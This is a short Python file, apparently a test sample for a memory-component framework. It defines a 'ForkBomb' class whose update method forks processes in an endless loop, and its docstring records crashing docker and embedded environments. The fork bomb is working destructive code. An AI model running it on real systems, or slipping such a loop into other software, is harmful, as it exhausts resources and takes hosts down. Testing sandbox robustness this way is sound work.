"""Forks until nothing is left.

docker: crashed | embedded: crashed
"""

import os

from design_space import Memory, Recall


class ForkBomb(Memory):
    def retrieve(self, query):
        return Recall()

    def update(self, episode):
        while True:
            os.fork()
